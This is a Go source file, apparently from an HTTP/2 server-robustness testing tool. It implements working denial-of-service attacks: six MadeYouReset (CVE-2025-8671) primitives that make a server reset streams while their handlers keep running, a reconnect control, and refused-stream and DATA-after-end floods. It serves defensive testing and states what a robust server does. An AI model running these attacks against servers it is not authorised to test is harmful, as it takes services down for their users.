package h2attack

// Attacks that start handlers and reconnect: MadeYouReset's six
// primitives (CVE-2025-8671), the plain reconnect, and the floods of
// frames the server must answer with a reset.

import (
	"context"
	"fmt"
	"sync"
	"time"

	"github.com/hotpathhq/hotpath/wire/h2"
)

// reconnectWant is what a robust server does about the attacks that start
// handlers and reconnect.
const reconnectWant = "handlers bounded across connections, not only per connection; GOAWAY ENHANCE_YOUR_CALM"

// reconnecting runs attack on Config.Conns connections (default 4), each
// dialed again whenever the server sends GOAWAY or closes it, until ctx
// ends. attack runs on a fresh connection and returns when it is done
// with it; path is Config.Path, default /delay/30000 (a handler that
// sleeps 30 s and ignores its context).
func reconnecting(ctx context.Context, cfg Config, name string, attack func(ctx context.Context, c *conn, path string)) (Result, error) {
	r := newRun(name, cfg)
	n := cfg.Conns
	if n <= 0 {
		n = 4
	}
	path := cfg.path("/delay/30000")
	var (
		wg      sync.WaitGroup
		mu      sync.Mutex
		lastErr error
	)
	for range n {
		wg.Go(func() {
			for ctx.Err() == nil {
				c, err := r.dial(ctx, dialOpts{})
				if err != nil {
					mu.Lock()
					lastErr = err
					mu.Unlock()
					sleep(ctx, 10*time.Millisecond)
					continue
				}
				r.onHold()
				attack(ctx, c, path)
				c.close()
			}
		})
	}
	wg.Wait()
	if r.conns.Load() == 0 {
		return r.result(), fmt.Errorf("h2attack: %s made no connection: %v", name, lastErr)
	}
	return r.result(), nil
}

// burst opens streams, 50 to a write, each written by frames (given the
// stream's identifier and its request's header block: a GET of
// Config.Path, default /delay/30000), until ctx ends, the server sends
// GOAWAY or closes, or the stream identifiers run out.
func (c *conn) burst(ctx context.Context, frames func(b []byte, id uint32, blk []byte) []byte) {
	path := c.r.cfg.path("/delay/30000")
	var b []byte
	for ctx.Err() == nil && !c.isClosed() && !c.sawGoAway() {
		c.wmu.Lock()
		b = b[:0]
		n := 0
		for ; n < 50 && c.nextID <= h2.MaxStreamID; n++ {
			id := c.nextID
			c.nextID += 2
			c.scratch = c.requestBlockLocked("GET", path)
			b = frames(b, id, c.scratch)
		}
		c.r.streams.Add(int64(n))
		err := c.writeLocked(b)
		c.wmu.Unlock()
		if err != nil || n == 0 {
			return
		}
	}
}

// madeYouReset is MadeYouReset (CVE-2025-8671) with one primitive: on
// Config.Conns reconnecting connections, complete GET requests
// (END_STREAM) of Config.Path (default /delay/30000), each followed by a
// frame that RFC 9113 makes a stream error, so that the server itself
// resets the stream while its handler runs on. The stream is closed, so
// MAX_CONCURRENT_STREAMS no longer stops the client, unless the server
// counts handlers rather than streams; and once the server cuts the
// connection, its handlers run on unless it counts them past it.
func madeYouReset(ctx context.Context, cfg Config, name string, primitive func(b []byte, id uint32, c *conn) []byte) (Result, error) {
	return reconnecting(ctx, cfg, name, func(ctx context.Context, c *conn, path string) {
		c.burst(ctx, func(b []byte, id uint32, blk []byte) []byte {
			b = h2.AppendHeaders(b, id, h2.FlagEndHeaders|h2.FlagEndStream, h2.Priority{}, blk, 0)
			return primitive(b, id, c)
		})
	})
}

// MadeYouResetWindowUpdateZero follows each request with a WINDOW_UPDATE
// of 0 on its stream (§6.9: a stream error, PROTOCOL_ERROR).
func MadeYouResetWindowUpdateZero(ctx context.Context, cfg Config) (Result, error) {
	return madeYouReset(ctx, cfg, "made-you-reset-window-update-zero", func(b []byte, id uint32, _ *conn) []byte {
		return h2.AppendWindowUpdate(b, id, 0)
	})
}

// MadeYouResetPriorityLength follows each request with a PRIORITY frame
// of 4 bytes, not 5 (§6.3: a stream error, FRAME_SIZE_ERROR).
func MadeYouResetPriorityLength(ctx context.Context, cfg Config) (Result, error) {
	return madeYouReset(ctx, cfg, "made-you-reset-priority-length", func(b []byte, id uint32, _ *conn) []byte {
		b = h2.AppendFrameHeader(b, h2.FrameHeader{Length: 4, Type: h2.FramePriority, StreamID: id})
		return append(b, 0, 0, 0, 0)
	})
}

// MadeYouResetPrioritySelf follows each request with a PRIORITY frame by
// which the stream depends on itself (§5.3.1: a stream error,
// PROTOCOL_ERROR).
func MadeYouResetPrioritySelf(ctx context.Context, cfg Config) (Result, error) {
	return madeYouReset(ctx, cfg, "made-you-reset-priority-self", func(b []byte, id uint32, _ *conn) []byte {
		return h2.AppendPriority(b, id, h2.Priority{StreamDep: id, Weight: 15})
	})
}

// MadeYouResetWindowOverflow follows each request with a WINDOW_UPDATE
// that takes the stream's send window past 2^31-1 (§6.9.1: a stream
// error, FLOW_CONTROL_ERROR).
func MadeYouResetWindowOverflow(ctx context.Context, cfg Config) (Result, error) {
	return madeYouReset(ctx, cfg, "made-you-reset-window-overflow", func(b []byte, id uint32, _ *conn) []byte {
		return h2.AppendWindowUpdate(b, id, h2.MaxWindowSize)
	})
}

// MadeYouResetHeadersAfterEnd follows each request with a second HEADERS
// frame on its stream, after END_STREAM (§5.1, half-closed (remote): a
// stream error, STREAM_CLOSED). The block is encoded with the
// connection's encoder, so the server must decode it to keep its table.
func MadeYouResetHeadersAfterEnd(ctx context.Context, cfg Config) (Result, error) {
	return madeYouReset(ctx, cfg, "made-you-reset-headers-after-end", func(b []byte, id uint32, c *conn) []byte {
		blk := c.enc.StartBlock(nil)
		blk = c.enc.AppendField(blk, "x-after", "end")
		return h2.AppendHeaders(b, id, h2.FlagEndHeaders|h2.FlagEndStream, h2.Priority{}, blk, 0)
	})
}

// MadeYouResetDataAfterEnd follows each request with a DATA frame on its
// stream, after END_STREAM (§5.1, half-closed (remote): a stream error,
// STREAM_CLOSED).
func MadeYouResetDataAfterEnd(ctx context.Context, cfg Config) (Result, error) {
	return madeYouReset(ctx, cfg, "made-you-reset-data-after-end", func(b []byte, id uint32, _ *conn) []byte {
		return h2.AppendData(b, id, h2.FlagEndStream, []byte("x"), 0)
	})
}

// appendGETsLocked appends up to n complete GETs of path (END_STREAM),
// each followed by what after appends for its stream (nil: nothing), with
// rising identifiers, and counts their streams. Hold wmu.
func (c *conn) appendGETsLocked(b []byte, n int, path string, after func(b []byte, id uint32) []byte) []byte {
	for k := 0; k < n && c.nextID <= h2.MaxStreamID; k++ {
		id := c.nextID
		c.nextID += 2
		c.scratch = c.requestBlockLocked("GET", path)
		b = h2.AppendHeaders(b, id, h2.FlagEndHeaders|h2.FlagEndStream, h2.Priority{}, c.scratch, 0)
		if after != nil {
			b = after(b, id)
		}
		c.r.streams.Add(1)
	}
	return b
}

// maxStreams returns the server's SETTINGS_MAX_CONCURRENT_STREAMS (100 if
// it set none), at most 1,000.
func (c *conn) maxStreams() int {
	n, ok := c.setting(h2.SettingMaxConcurrentStreams)
	if !ok {
		n = 100
	}
	return int(min(n, 1000))
}

// reconnectPing is the PING Reconnect waits on before it closes.
var reconnectPing = [8]byte{'r', 'e', 'c', 'o', 'n', 'n', 'e', 'c'}

// Reconnect, the control for MadeYouReset, needs no reset at all: on
// Config.Conns connections, it opens as many GETs of Config.Path (default
// /delay/30000) as the server's SETTINGS_MAX_CONCURRENT_STREAMS allows
// (100 if it sets none), waits for the PING it sends after them to be
// acknowledged (so the server has read them), closes the connection and
// dials again. A server that counts handlers only per connection runs
// Conns × MAX_CONCURRENT_STREAMS more on every round.
func Reconnect(ctx context.Context, cfg Config) (Result, error) {
	return reconnecting(ctx, cfg, "reconnect", func(ctx context.Context, c *conn, path string) {
		c.wmu.Lock()
		b := c.appendGETsLocked(nil, c.maxStreams(), path, nil)
		b = h2.AppendPing(b, 0, reconnectPing)
		err := c.writeLocked(b)
		c.wmu.Unlock()
		if err != nil {
			return
		}
		c.waitFor(ctx, c.r.cfg.reply(), func() bool { return c.acked[reconnectPing] || c.closed })
	})
}

// RefusedStreamFlood opens as many GETs of Config.Path (default
// /delay/30000) as the server's SETTINGS_MAX_CONCURRENT_STREAMS allows
// (100 if it sets none), then more GETs of "/" as fast as the server
// reads them: each is refused (RST_STREAM REFUSED_STREAM). A server
// should count the resets it sends and cut the connection (GOAWAY
// ENHANCE_YOUR_CALM) within a second: Result.GoAwayAfter.
func RefusedStreamFlood(ctx context.Context, cfg Config) (Result, error) {
	return flood(ctx, cfg, "refused-stream-flood", func(c *conn) error {
		n := c.maxStreams()
		c.wmu.Lock()
		defer c.wmu.Unlock()
		return c.writeLocked(c.appendGETsLocked(nil, n, c.r.cfg.path("/delay/30000"), nil))
	}, func(c *conn) []byte {
		return c.appendGETsLocked(nil, 50, "/", nil)
	})
}

// DataAfterEndFlood sends GETs of "/" (END_STREAM), each followed by a
// DATA frame on its stream, as fast as the server reads them: each DATA
// is a stream error (STREAM_CLOSED) the server answers with a reset. A
// server should count the resets it sends and cut the connection
// (GOAWAY ENHANCE_YOUR_CALM) within a second: Result.GoAwayAfter.
func DataAfterEndFlood(ctx context.Context, cfg Config) (Result, error) {
	return flood(ctx, cfg, "data-after-end-flood", nil, func(c *conn) []byte {
		return c.appendGETsLocked(nil, 50, "/", func(b []byte, id uint32) []byte {
			return h2.AppendData(b, id, h2.FlagEndStream, []byte("x"), 0)
		})
	})
}
